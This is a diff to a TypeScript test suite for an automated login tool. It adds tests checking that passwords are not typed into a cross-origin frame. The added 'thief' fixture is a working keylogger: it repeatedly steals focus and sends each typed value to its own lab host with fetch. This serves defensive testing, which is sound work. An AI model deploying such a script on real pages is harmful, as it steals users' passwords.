@@ -1,6 +1,8 @@
+import type { Page } from 'playwright';
 import { describe, expect } from 'vitest';
+import { typeIn } from '../../helpers/login/in-page/type-in.ts';
 import { carries } from '../../helpers/login/login-origins.ts';
-import type { WalkRequest } from '../../helpers/login/walk-types.ts';
+import type { ScriptStep, WalkRequest } from '../../helpers/login/walk-types.ts';
 import { type Handler, sendPage, serve, to } from '../lab/host.ts';
 import { target, user } from '../lab/layout-host.ts';
 import { loginPage } from '../lab/pages.ts';
@@ -74,6 +76,26 @@ const ways: readonly (readonly [string, Service])[] = [
   ],
 ];
 
+/** Takes the focus from the page around it all the time, and tells its host what is typed there. */
+const thief = `<input id="trap"><script>
+  const take = () => { window.focus(); trap.focus(); };
+  for (const name of ['message', 'focus', 'blur', 'keydown', 'input']) addEventListener(name, take, true);
+  setInterval(take, 1);
+  trap.oninput = () => fetch('/heard?' + encodeURIComponent(trap.value));
+</script>`;
+const callThief = `<script>
+  for (const name of ['focus', 'blur', 'keydown', 'beforeinput', 'input', 'keyup', 'change'])
+    addEventListener(name, () => frames[0].postMessage(name, '*'), true);
+</script>`;
+const enterPage = loginPage
+  .replace(/<button.*button>/, '')
+  .replace('<form', `<form onkeydown="if (event.key === 'Enter') this.submit()"`);
+const ownLogin: ScriptStep[] = [
+  { fill: '#u', with: 'username' },
+  { fill: 'text=Password', with: 'password' },
+  { click: 'button' },
+];
+
 /** The other host, which keeps all that it was sent. */
 async function openOther(own: () => string) {
   const heard: string[] = [];
@@ -82,6 +104,7 @@ async function openOther(own: () => string) {
     if (request.url?.startsWith('/around'))
       return sendPage(response, `<iframe src="${own()}/form"></iframe>`);
     if (request.url === '/form') return sendPage(response, loginPage);
+    if (request.url === '/thief') return sendPage(response, thief);
     return to(`${target}?code=1`)(request, response, body);
   };
   const host = await serve(hear);
@@ -126,6 +149,43 @@ describe.concurrent('the password goes to the origin that was asked, and to thos
       expect(carries('https://other.example/ Basic bWU6b3RoZXI=', request)).toBe(false);
     },
   );
+
+  test.for<[string, string, Partial<WalkRequest>]>([
+    ['by the driver', loginPage, {}],
+    ['by the driver that presses Enter', enterPage, {}],
+    [
+      'in a frame',
+      `<iframe srcdoc='${loginPage.replace('<form', '<form target="_top"')}'></iframe>`,
+      {},
+    ],
+    ['by a login script', loginPage, { script: { login: ownLogin } }],
+  ])('nor to a frame that takes the focus: typed %s', async ([, page, more], { walk }) => {
+    await using other = await openOther(() => '');
+    await using server = await serve({
+      '/authorize': `<iframe src="${other.base}/thief"></iframe>${callThief}${page}`,
+      '/login': (request, response, body) => to(`${target}?${body}`)(request, response, body),
+    });
+
+    const seen = await walk(`${server.base}/authorize`, more);
+
+    expect(other.heard).toEqual(['/thief ']);
+    const typed = new URLSearchParams(user);
+    expect(seen.visits.at(-1)?.url, seen.explanation).toBe(`${target}?${typed}`);
+  });
+
+  test('nor in a document of another origin than was judged', async ({ walk }) => {
+    await using server = await serve({ '/authorize': loginPage });
+    let isTyped: boolean | undefined;
+    const person = async (page: Page) => {
+      const typing = { text: user.password, origins: ['https://other.example'] };
+      isTyped = await page.locator('#p').evaluate(typeIn, typing);
+      await page.close();
+    };
+
+    await walk(`${server.base}/authorize`, { person });
+
+    expect(isTyped).toBe(false);
+  });
 
   test('nor by a login script', async ({ walk }) => {
     await using other = await openOther(() => '');
